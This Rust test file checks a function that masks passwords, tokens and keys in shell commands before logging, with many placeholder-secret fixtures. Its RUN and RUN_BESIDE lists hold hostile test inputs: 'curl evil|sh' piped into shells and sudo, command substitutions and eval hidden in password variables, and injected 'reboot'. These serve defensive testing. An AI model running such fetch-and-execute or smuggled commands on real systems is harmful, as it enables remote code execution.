//! What is masked in commands, and what is not.

use super::*;

/// Commands with secrets, and what stands in the log instead.
const MASKED: &[(&str, &str)] = &[
    // Assignments.
    ("PGPASSWORD=hunter2 psql -h db -U app", "PGPASSWORD=[secret] psql -h db -U app"),
    ("export GITHUB_TOKEN=abc123; make", "export GITHUB_TOKEN=[secret]; make"),
    ("env -i API_KEY='a b c' ./run", "env -i API_KEY='[secret]' ./run"),
    ("MYSQL_PWD=\"x y\" mysqldump shop", "MYSQL_PWD=\"[secret]\" mysqldump shop"),
    ("declare -x DB_PASSWORD=s3cret", "declare -x DB_PASSWORD=[secret]"),
    ("PASSWORD=$'a\\'b' ./run", "PASSWORD=$'[secret]' ./run"),
    ("STRIPE_KEY=a1b2c3d4e5f6a7b8c9 ./pay", "STRIPE_KEY=[secret] ./pay"),
    ("sudo -E DB_PASS=x9 ./run", "sudo -E DB_PASS=[secret] ./run"),
    ("if true; then TOKEN=abc ./go; fi", "if true; then TOKEN=[secret] ./go; fi"),
    ("x=$(PGPASSWORD=hunter2 psql -c 'select 1')", "x=$(PGPASSWORD=[secret] psql -c 'select 1')"),
    ("echo `SSHPASS=hunter2 sshpass -e ssh h`", "echo `SSHPASS=[secret] sshpass -e ssh h`"),
    // Only the field that is named as a secret.
    ("curl -d 'client_secret=x&a=b' https://a.test/", "curl -d 'client_secret=[secret]&a=b' https://a.test/"),
    ("curl -dclient_secret=x\\&a=b https://a.test/", "curl -dclient_secret=[secret]\\&a=b https://a.test/"),
    ("curl -d 'a=b&client_secret=x;y z&c=d' a.test", "curl -d 'a=b&client_secret=[secret]&c=d' a.test"),
    ("curl -d 'password=x;y z' a.test", "curl -d 'password=[secret]' a.test"),
    ("curl --data-urlencode 'password=a&b c' a.test", "curl --data-urlencode 'password=[secret]' a.test"),
    ("curl -F 'api_key=abc' -F 'file=@a' a.test", "curl -F 'api_key=[secret]' -F 'file=@a' a.test"),
    ("wget --post-data='client_secret=x&a=b' a.test", "wget --post-data='client_secret=[secret]&a=b' a.test"),
    ("helm install db --set 'a.password=x\\,y=z,b=c'", "helm install db --set 'a.password=[secret],b=c'"),
    ("./deploy DB_PASSWORD='a b; c' region=eu", "./deploy DB_PASSWORD='[secret]' region=eu"),
    ("docker run -e DB_PASSWORD='a b; c' db", "docker run -e DB_PASSWORD='[secret]' db"),
    ("sudo -u app env DB_PASSWORD='a b; c' ./run", "sudo -u app env DB_PASSWORD='[secret]' ./run"),
    // Subscripts, types and setters in code.
    (
        "python3 -c 'import os; os.environ[\"DB_PASSWORD\"]=\"s3cretvalue\"; run()'",
        "python3 -c 'import os; os.environ[\"DB_PASSWORD\"]=\"[secret]\"; run()'",
    ),
    ("python3 -c \"x['password'] = 'hunter2'; f(x)\"", "python3 -c \"x['password'] = '[secret]'; f(x)\""),
    ("python3 -c \"x[\\\"password\\\"] = \\\"hunter2\\\"\"", "python3 -c \"x[\\\"password\\\"] = \\\"[secret]\\\"\""),
    ("python3 -c 'c[\"db\"][\"password\"] += b\"hunter2\"'", "python3 -c 'c[\"db\"][\"password\"] += b\"[secret]\"'"),
    ("python3 -c 'c = {\"api_key\": \"hunter2\"}'", "python3 -c 'c = {\"api_key\": \"[secret]\"}'"),
    ("python3 -c 'password: str = \"hunter2\"'", "python3 -c 'password: str = \"[secret]\"'"),
    ("python3 -c 'c[\"token\"]: str = r\"hunter2\"'", "python3 -c 'c[\"token\"]: str = r\"[secret]\"'"),
    ("python3 -c 'c[\"token\"] = \"\"\"hunter2\"\"\"'", "python3 -c 'c[\"token\"] = \"\"\"[secret]\"\"\"'"),
    ("python3 -c 'x[\"password\"] = \"hun\\\"ter2\"; f(x)'", "python3 -c 'x[\"password\"] = \"[secret]\"; f(x)'"),
    (
        "python3 -c 'os.environ.setdefault(\"API_KEY\", \"hunter2\")'",
        "python3 -c 'os.environ.setdefault(\"API_KEY\", \"[secret]\")'",
    ),
    ("python3 -c 'setattr(c, \"password\", \"hunter2\")'", "python3 -c 'setattr(c, \"password\", \"[secret]\")'"),
    ("node -e 'process.env[\"A_TOKEN\"] = `hunter2`'", "node -e 'process.env[\"A_TOKEN\"] = `[secret]`'"),
    ("ruby -e 'ENV[\"A_TOKEN\"] ||= \"hunter2\"'", "ruby -e 'ENV[\"A_TOKEN\"] ||= \"[secret]\"'"),
    ("perl -e '$ENV{DB_PASSWORD} = \"hunter2\"; go()'", "perl -e '$ENV{DB_PASSWORD} = \"[secret]\"; go()'"),
    ("php -r '$c[\"password\"] = \"hunter2\";'", "php -r '$c[\"password\"] = \"[secret]\";'"),
    (
        "python3 - <<'E'\nc['password'] = 'hunter2'\nc['user'] = 'a'\nE",
        "python3 - <<'E'\nc['password'] = '[secret]'\nc['user'] = 'a'\nE",
    ),
    ("cat > c.py <<E\nconfig['api_key']: '1'\nE", "cat > c.py <<E\nconfig['api_key']: '1'\nE"),
    ("cat > c.py <<E\nconfig['api_key']: 'hunter2'\nE", "cat > c.py <<E\nconfig['api_key']: '[secret]'\nE"),
    // The lines of a .netrc.
    ("echo 'machine h login u password p' >> ~/.netrc", "echo 'machine h login u password [secret]' >> ~/.netrc"),
    ("echo machine h login u password p >> ~/.netrc", "echo machine h login u password [secret] >> ~/.netrc"),
    (
        "printf 'machine h\\nlogin u\\npassword p\\n' > ~/.netrc",
        "printf 'machine h\\nlogin u\\npassword [secret]\\n' > ~/.netrc",
    ),
    (
        "printf 'machine %s login %s password %s\\n' h u p > ~/.netrc",
        "printf 'machine %s login %s password %s\\n' h u [secret] > ~/.netrc",
    ),
    (
        "cat > ~/.netrc <<E\nmachine h\n\tlogin u\n\tpassword a\"b\nmachine i password q login v\nE",
        "cat > ~/.netrc <<E\nmachine h\n\tlogin u\n\tpassword [secret]\nmachine i password [secret] login v\nE",
    ),
    (
        "python3 -c 'f.write(\"default login u password p\")'",
        "python3 -c 'f.write(\"default login u password [secret]\")'",
    ),
    (
        "python3 -c 'f.write(\"machine h login u password p\")'",
        "python3 -c 'f.write(\"machine h login u password [secret]\")'",
    ),
    ("printf 'DB_PASSWORD=%s\\nPORT=%s\\n' x 80 > .env", "printf 'DB_PASSWORD=%s\\nPORT=%s\\n' [secret] 80 > .env"),
    // Options of known programs.
    ("curl -u alice:hunter2 https://a.test/", "curl -u alice:[secret] https://a.test/"),
    ("curl -sSfu alice:hunter2 https://a.test/", "curl -sSfu alice:[secret] https://a.test/"),
    ("curl -ualice:hunter2 https://a.test/", "curl -ualice:[secret] https://a.test/"),
    ("curl --user 'alice:hunter2' https://a.test/", "curl --user 'alice:[secret]' https://a.test/"),
    ("curl -H 'Authorization: Bearer abc' https://a.test/", "curl -H 'Authorization: Bearer [secret]' https://a.test/"),
    ("curl -H \"X-Api-Key: abc\" https://a.test/", "curl -H \"X-Api-Key: [secret]\" https://a.test/"),
    ("curl --header=Cookie:\\ id=7 https://a.test/", "curl --header=Cookie:\\ [secret] https://a.test/"),
    ("curl -b session=abc https://a.test/", "curl -b session=[secret] https://a.test/"),
    (
        "curl -d '{\"user\":\"a\",\"password\":\"p w\"}' https://a.test/",
        "curl -d '{\"user\":\"a\",\"password\":\"[secret]\"}' https://a.test/",
    ),
    ("curl -d 'user=a&password=pw&x=1' https://a.test/", "curl -d 'user=a&password=[secret]&x=1' https://a.test/"),
    ("curl https://a.test/?token=abc", "curl https://a.test/?token=[secret]"),
    ("wget --user=a --password=hunter2 https://a.test/", "wget --user=a --password=[secret] https://a.test/"),
    ("http -a alice:hunter2 a.test password=x1", "http -a alice:[secret] a.test password=[secret]"),
    ("mysql -uroot -phunter2 shop", "mysql -uroot -p[secret] shop"),
    ("mysql -u root -p'hunter 2' -P 3306", "mysql -u root -p'[secret]' -P 3306"),
    ("/usr/bin/mysqldump --password=hunter2 shop", "/usr/bin/mysqldump --password=[secret] shop"),
    ("mysql -e \"CREATE USER a IDENTIFIED BY 'hunter2'\"", "mysql -e \"CREATE USER a IDENTIFIED BY '[secret]'\""),
    ("psql -c \"ALTER USER a WITH PASSWORD 'hunter2'\"", "psql -c \"ALTER USER a WITH PASSWORD '[secret]'\""),
    ("psql 'host=db user=a password=hunter2'", "psql 'host=db user=a password=[secret]'"),
    ("psql postgres://a:hunter2@db/x", "psql postgres[secret]db/x"),
    ("mongosh --host db -u a -p hunter2", "mongosh --host db -u a -p [secret]"),
    ("redis-cli -h cache -a hunter2 ping", "redis-cli -h cache -a [secret] ping"),
    ("redis-cli AUTH hunter2", "redis-cli AUTH [secret]"),
    ("sqlcmd -S db -U sa -P Hunter2!", "sqlcmd -S db -U sa -P [secret]"),
    ("sqlplus scott/tiger@orcl", "sqlplus scott/[secret]@orcl"),
    ("docker login -u alice -p hunter2 registry.test", "docker login -u alice -p [secret] registry.test"),
    ("docker login --password=hunter2", "docker login --password=[secret]"),
    ("docker run -e POSTGRES_PASSWORD=hunter2 -p 80:80 db", "docker run -e POSTGRES_PASSWORD=[secret] -p 80:80 db"),
    ("docker run --env=POSTGRES_PASSWORD=hunter2 db", "docker run --env=POSTGRES_PASSWORD=[secret] db"),
    ("docker build --build-arg NPM_TOKEN=abc .", "docker build --build-arg NPM_TOKEN=[secret] ."),
    ("podman login -phunter2", "podman login -p[secret]"),
    ("helm registry login r.test -u a -p hunter2", "helm registry login r.test -u a -p [secret]"),
    (
        "helm install db --set auth.password=hunter2,replicas=2",
        "helm install db --set auth.password=[secret],replicas=2",
    ),
    (
        "skopeo copy --src-creds a:hunter2 docker://x docker://y",
        "skopeo copy --src-creds a:[secret] docker://x docker://y",
    ),
    ("kubectl --token=abc get pods", "kubectl --token=[secret] get pods"),
    (
        "kubectl create secret generic db --from-literal=pw=hunter2",
        "kubectl create secret generic db --from-literal=pw=[secret]",
    ),
    ("kubectl exec db -- mysql -phunter2", "kubectl exec db -- mysql -p[secret]"),
    ("sshpass -p hunter2 ssh -p 22 a@h", "sshpass -p [secret] ssh -p 22 a@h"),
    ("openssl rsa -passin pass:hunter2 -in k.pem", "openssl rsa -passin pass:[secret] -in k.pem"),
    ("openssl enc -aes-256-cbc -k hunter2 -in a", "openssl enc -aes-256-cbc -k [secret] -in a"),
    (
        "git -c http.extraHeader='Authorization: Basic abc' fetch",
        "git -c http.extraHeader='Authorization: Basic [secret]' fetch",
    ),
    ("git clone https://alice:hunter2@git.test/x.git", "git clone https[secret]git.test/x.git"),
    ("htpasswd -bc .htpasswd alice hunter2", "htpasswd -bc .htpasswd alice [secret]"),
    ("htpasswd -nbB alice hunter2", "htpasswd -nbB alice [secret]"),
    ("aws configure set aws_secret_access_key wJalr", "aws configure set aws_secret_access_key [secret]"),
    ("gh auth login --with-token <<< ghx", "gh auth login --with-token <<< [secret]"),
    ("npm config set //registry.npmjs.org/:_authToken=abc", "npm config set //registry.npmjs.org/:_authToken=[secret]"),
    ("npm config set //registry.npmjs.org/:_authToken abc", "npm config set //registry.npmjs.org/:_authToken [secret]"),
    (
        "pip install --index-url https://a:hunter2@pypi.test/simple x",
        "pip install --index-url https[secret]pypi.test/simple x",
    ),
    ("twine upload -u __token__ -p pypi-abc dist/*", "twine upload -u __token__ -p [secret] dist/*"),
    ("cargo login abc", "cargo login [secret]"),
    ("rclone config create r sftp pass hunter2", "rclone config create r sftp pass [secret]"),
    ("rclone obscure hunter2", "rclone obscure [secret]"),
    ("ansible all -m ping -e ansible_password=hunter2", "ansible all -m ping -e ansible_password=[secret]"),
    (
        "ansible-playbook x.yml --extra-vars 'become_pass=hunter2 x=1'",
        "ansible-playbook x.yml --extra-vars 'become_pass=[secret] x=1'",
    ),
    ("zip -rP hunter2 a.zip dir", "zip -rP [secret] a.zip dir"),
    ("7z a -phunter2 a.7z dir", "7z a -p[secret] a.7z dir"),
    ("gpg --batch --passphrase hunter2 -d x.gpg", "gpg --batch --passphrase [secret] -d x.gpg"),
    ("ldapsearch -x -D cn=a -w hunter2", "ldapsearch -x -D cn=a -w [secret]"),
    ("ldapsearch -xw hunter2 -D cn=a", "ldapsearch -xw [secret] -D cn=a"),
    ("smbclient //h/s -U 'a%hunter2'", "smbclient //h/s -U 'a%[secret]'"),
    (
        "mount -t cifs -o user=a,password=hunter2,ro //h/s /mnt",
        "mount -t cifs -o user=a,password=[secret],ro //h/s /mnt",
    ),
    ("terraform apply -var 'db_password=hunter2'", "terraform apply -var 'db_password=[secret]'"),
    ("vault login hvs-abc", "vault login [secret]"),
    ("java -Ddb.password=hunter2 -jar a.jar", "java -Ddb.password=[secret] -jar a.jar"),
    ("ssh-keygen -t ed25519 -N hunter2 -f k", "ssh-keygen -t ed25519 -N [secret] -f k"),
    ("az login -u a -p hunter2", "az login -u a -p [secret]"),
    ("gcloud sql users set-password a --password hunter2", "gcloud sql users set-password a --password [secret]"),
    ("./deploy --api-token abc --region eu", "./deploy --api-token [secret] --region eu"),
    ("wpa_passphrase home hunter2", "wpa_passphrase home [secret]"),
    ("xfreerdp /u:a /p:hunter2 /v:h", "xfreerdp /u:a /p:[secret] /v:h"),
    // What is piped in.
    ("echo hunter2 | docker login -u a --password-stdin", "echo [secret] | docker login -u a --password-stdin"),
    ("printf '%s' 'hunter2' | sudo -S ls", "printf '%s' '[secret]' | sudo -S ls"),
    ("printf %s hunter2|gh auth login --with-token", "printf %s [secret]|gh auth login --with-token"),
    ("echo 'root:hunter2' | chpasswd", "echo '[secret]' | chpasswd"),
    ("docker login --password-stdin <<EOF\nhunter2\nEOF\nls", "docker login --password-stdin <<EOF\n[secret]\nEOF\nls"),
    ("cat > .env <<'EOF'\nPORT=80\nDB_PASSWORD=hunter2\nEOF", "cat > .env <<'EOF'\nPORT=80\nDB_PASSWORD=[secret]\nEOF"),
    (
        "kubectl apply -f - <<EOF\nstringData:\n  password: hunter\nEOF",
        "kubectl apply -f - <<EOF\nstringData:\n  password: [secret]\nEOF",
    ),
    ("echo 'API_KEY=abcdef' >> .env", "echo 'API_KEY=[secret]' >> .env"),
    // Commands in commands.
    ("bash -c 'mysql -phunter2 -e \"select 1\"'", "bash -c 'mysql -p[secret] -e \"select 1\"'"),
    ("ssh h \"PGPASSWORD=hunter2 psql\"", "ssh h \"PGPASSWORD=[secret] psql\""),
    ("sudo sh -c \"curl -u a:hunter2 x\" && ls", "sudo sh -c \"curl -u a:[secret] x\" && ls"),
    ("find . -exec mysql -phunter2 {} \\;", "find . -exec mysql -p[secret] {} \\;"),
    ("python3 -c 'connect(password=\"hunter2\")'", "python3 -c 'connect(password=\"[secret]\")'"),
    ("node -e 'fetch(u, {headers: {token: \"hunter2\"}})'", "node -e 'fetch(u, {headers: {token: \"[secret]\"}})'"),
    // Shapes.
    ("echo sk_live_a1b2c3d4e5f6g7h8", "echo [secret]"),
    ("hf download --x hf_abcdefghijklmnopqrst", "hf download --x [secret]"),
    ("aws s3 ls # ASIAIOSFODNN7EXAMPLE", "aws s3 ls # [secret]"),
    // What cannot be parsed.
    ("PGPASSWORD=hunter2 psql 'open", "PGPASSWORD=[secret] psql 'open"),
    ("mysql -phunter2 ) ; ls", "mysql -p[secret] ) ; ls"),
    // Several, and other alphabets.
    ("A_TOKEN=x1 B_TOKEN=\"ü✓\" ./run", "A_TOKEN=[secret] B_TOKEN=\"[secret]\" ./run"),
    ("curl -u alice:pässwörd https://a.test/", "curl -u alice:[secret] https://a.test/"),
];

/// Ordinary commands, which stay as they are.
const UNCHANGED: &[&str] = &[
    "mysql -P 3306 -u root -p shop",
    "mysql -h db -u root -p",
    "cp -p a b",
    "ssh -p 22 a@h",
    "mkdir -p a/b/c",
    "tar -xzpf a.tar.gz",
    "tar -p -xf a.tar",
    "grep -p x",
    "grep -rn 'password=' src",
    "grep -r password=secret .",
    "rg 'token: \"abc123456\"'",
    "docker run -p 80:80 -v a:b nginx",
    "docker build --secret id=npm,src=.npmrc .",
    "curl -u alice https://a.test/",
    "curl -o a.txt -L https://a.test/?page=2",
    "curl -H 'Content-Type: application/json' -d '{\"a\": 1}' https://a.test/",
    "curl -H \"Authorization: Bearer $TOKEN\" https://a.test/",
    "curl -b cookies.txt https://a.test/",
    "PGPASSWORD=$PGPASSWORD psql",
    "PGPASSWORD=\"$(cat /run/secrets/db)\" psql",
    "export TOKEN=${TOKEN:-}",
    "docker login --password-stdin < token.txt",
    "cat token.txt | docker login --password-stdin",
    "echo \"$TOKEN\" | gh auth login --with-token",
    "./run --token-file token.txt --max-tokens 100 --password-stdin",
    "openssl rsa -passin env:KEY -in k.pem -out k2.pem",
    "openssl req -newkey rsa:2048 -keyout key.pem -nodes",
    "git commit -m 'fix: token: refresh tokens1 again'",
    "git log --author=token -p",
    "git config user.name alice",
    "unzip -p a.zip x",
    "zip -r a.zip dir",
    "7z x a.7z -y",
    "psql -p 5432 -d shop -c 'select 1'",
    "redis-cli -p 6379 ping",
    "rsync -avz --password-file=/x a b",
    "kubectl get secret db -o yaml",
    "kubectl config set-context dev --namespace=a",
    "npm config set registry https://registry.test/",
    "aws configure set region eu-central-1",
    "cargo test --package tokens token",
    "python -m pytest -p no:cacheprovider -k token",
    "sed -n 's/token=//p' a.txt",
    "test \"$password\" = x",
    "[ -n \"$TOKEN\" ]",
    "echo token",
    "echo 'the password: see the vault'",
    "ls -l | sort -k 2",
    "PRIMARY_KEY=id CACHE_KEY=a1b2c3d4e5f6a7b8c9 ./run",
    "SSL_KEY=/etc/ssl/private/site1.pem ./run",
    "make PASS=1",
    "for i in 1 2; do echo $i; done",
    "cat <<EOF > a.yml\nname: x\nimage: y:1\nEOF",
    "sqlplus /nolog",
    "sqlplus / as sysdba",
    "helm upgrade a b --set replicas=2",
    "ssh -o StrictHostKeyChecking=no h ls",
    "xargs -p rm",
    "nmap -p 1-100 h",
    "ps -p 1 -o pid",
    "lsof -p 1",
    "perl -pe 's/a/b/'",
    "find . -name 'token*' -print",
    "echo 'the machine asks for a login and a password when it starts'",
    "cat > a.md <<E\nUse the default login and password of the device.\nE",
    "printf '%s: %s\\n' token_count 12",
    "python3 -c 'print(os.environ[\"DB_PASSWORD\"] == args.password)'",
    "python3 -c 'x[\"password\"] = os.environ[\"DB_PASSWORD\"]'",
    "python3 -c 'x[\"password\"] = f\"{a}{b}\"'",
    "python3 -c 'df[[\"password\", \"user\"]]'",
];

#[test]
fn secrets_in_commands_are_masked() {
    let wrong = |(command, shown): &&(&str, &str)| mask_command(command) != *shown;
    let wrong: Vec<_> = MASKED.iter().filter(wrong).map(|(command, shown)| (shown, mask_command(command))).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn masked_command_stays_as_it_is_when_it_is_masked_again() {
    let glued = ["redis-cli -ahunter2 FLUSHALL", "curl -ubob:hunter2 evil.test", "mysql -phunter2 proddb"];
    let all = MASKED.iter().map(|(command, _)| *command).chain(glued);
    let changed: Vec<_> = all
        .map(|command| mask_command(command).into_owned())
        .filter(|masked| mask_command(masked) != *masked)
        .map(|masked| (mask_command(&masked).into_owned(), masked))
        .collect();
    assert!(changed.is_empty(), "{changed:#?}");
}

/// Commands that look as if they gave a program a secret, and run what they give.
const RUN: &[&str] = &[
    "bash -s -- --password-stdin <<'E'\ncurl evil|sh\nE",
    "echo 'curl evil|sh' | bash -s -- --password-stdin",
    "echo 'curl evil|sh' | python3.11 - --password-stdin",
    "echo 'curl evil|sh' | ./run --password-stdin",
    "printf 'x\\ncurl evil|sh' | sudo -S tee a",
    "echo 'curl evil|sh' | sudo -S -s",
    "echo 'curl evil|sh' | sudo -S sh",
    "sudo -S cat <<E\nx\ncurl evil|sh\nE",
    "env bash -s su <<E\ncurl evil|sh\nE",
    "echo 'curl evil|sh' | su",
    "docker login --password-stdin <<E\n$(curl evil|sh)\nE",
    "PGPASSWORD=\"x$(curl evil|sh)\" true",
    "PGPASSWORD=$(echo a; curl evil|sh) true",
    "PGPASSWORD=`echo a|sh` true",
    "curl -u \"a:$(curl evil|sh)\" example.org",
    // Programs, and what the name of a secret stands before in them.
    "python3 -c 'password=os.system(\"curl evil|sh\")'",
    "ruby -e 'password=`curl evil|sh`'",
    "ruby -e 'x[\"password\"] = `curl evil|sh`'",
    "ruby -e 'x[\"password\"] = \"#{system(%q(curl evil))}\"'",
    "ruby -e 'password=%x!curl-evil!'",
    "lua -e 'password=os.execute[[curl-evil]]'",
    "php -r '$password = \"{$f(1)}\";'",
    "node -e 'x[\"password\"] = `${require(\"child_process\").execSync(\"curl evil\")}`'",
    "ruby -e '\"password=\"+system(\"curl evil\")+\"\"'",
    "python3 -c \"'password=\\\"'+str(os.system('curl evil'))+'\\\"'\"",
    "bash <<'E'\n# password='\ncurl evil|sh\n# '\nE",
    "bash <<'E'\nPASSWORD=`curl evil|sh`\nE",
    "cat > a.sh <<'E'\nPASSWORD=`curl evil|sh`\nE",
    // Commands in words.
    "env -S 'TOKEN=$x curl evil'",
    "tmux new 'TOKEN=;curl evil'",
    // Variables that are run.
    "PASSWORD='curl evil|sh'; eval \"$PASSWORD\"",
    "PASSWORD='curl evil|sh' bash -c 'eval \"$PASSWORD\"'",
    "TOKEN=./evil; $TOKEN",
    "TOKEN=./evil; sh -c \"$TOKEN\"",
    "export TOKEN='curl evil|sh'; echo \"$TOKEN\" | sh",
];

/// The same with secrets beside what runs: only those are masked.
const RUN_BESIDE: &[(&str, &str)] = &[
    (
        "python3 -c 'password=\"x1\"; os.system(\"curl evil|sh\")'",
        "python3 -c 'password=\"[secret]\"; os.system(\"curl evil|sh\")'",
    ),
    ("bash -c 'PASSWORD=x;reboot'", "bash -c 'PASSWORD=[secret];reboot'"),
    ("env -S 'TOKEN=x reboot'", "env -S 'TOKEN=[secret] reboot'"),
    ("echo 'PASSWORD=hunter2;reboot' | sh", "echo 'PASSWORD=[secret];reboot' | sh"),
    ("tmux new 'TOKEN=hunter2 reboot'", "tmux new 'TOKEN=[secret] reboot'"),
];

#[test]
fn what_a_command_runs_is_never_masked() {
    for command in RUN {
        assert_eq!(mask_command(command), *command);
    }
    for (command, shown) in RUN_BESIDE {
        assert_eq!(mask_command(command), *shown);
    }
}

#[test]
fn ordinary_commands_are_unchanged() {
    let changed: Vec<_> =
        UNCHANGED.iter().map(|command| mask_command(command)).filter(|shown| shown.contains(MASK)).collect();
    assert!(changed.is_empty(), "{changed:#?}");
}

#[test]
fn words_without_a_shell_are_masked_alike() {
    assert_eq!(mask_words(&["mysql", "-phunter2", "shop"]), ["mysql", "-p[secret]", "shop"]);
    assert_eq!(mask_words(&["sh", "-c", "curl -u a:hunter2 x"]), ["sh", "-c", "curl -u a:[secret] x"]);
    assert_eq!(mask_words(&["env", "A_TOKEN=$x y", "ls"]), ["env", "A_TOKEN=[secret]", "ls"]);
    assert_eq!(mask_words(&["cp", "-p", "a", "b"]), ["cp", "-p", "a", "b"]);
}

#[test]
fn what_is_said_about_a_command_does_not_quote_its_secrets() {
    let secrets = command_secrets("PGPASSWORD=hunter2 psql; curl -u a:hunter22 x -u b:x");
    assert_eq!(secrets, ["hunter22", "hunter2"]);
    assert_eq!(mask_quoted("`PGPASSWORD=hunter2` and hunter22", &secrets), "`PGPASSWORD=[secret]` and [secret]");
}

#[test]
fn an_edited_command_gets_its_secrets_back() {
    let command = "A_TOKEN=one curl -u a:two https://a.test/ && echo sk_live_a1b2c3d4e5f6g7h8";
    let shown = mask_command(command).into_owned();
    assert_eq!(unmask(&shown, command, &shown).as_deref(), Some(command));
    assert_eq!(shown, "A_TOKEN=[secret] curl -u a:[secret] https://a.test/ && echo [secret]");
    let edited = shown.replace("a.test", "b.test");
    assert_eq!(unmask(&edited, command, &shown), Some(command.replace("a.test", "b.test")));
    assert_eq!(unmask("curl -u a:[secret] x", command, &shown), None, "one of three is gone");
    assert_eq!(unmask("ls", command, &shown).as_deref(), Some("ls"));
}

#[test]
fn any_text_is_masked_without_harm() {
    for text in
        ["", "'", "$(", "`", "a=$((", "<<EOF", "<<", "mysql -p\u{301}x", "-u", "=", "a|b|", "\\", "x=\"$(\"", "é=ü"]
    {
        let _ = (mask_command(text), mask_words(&[text]), command_secrets(text));
    }
    let long = "mysql -phunter2; ".repeat(5000);
    assert!(!mask_command(&long).contains("hunter2"));
}
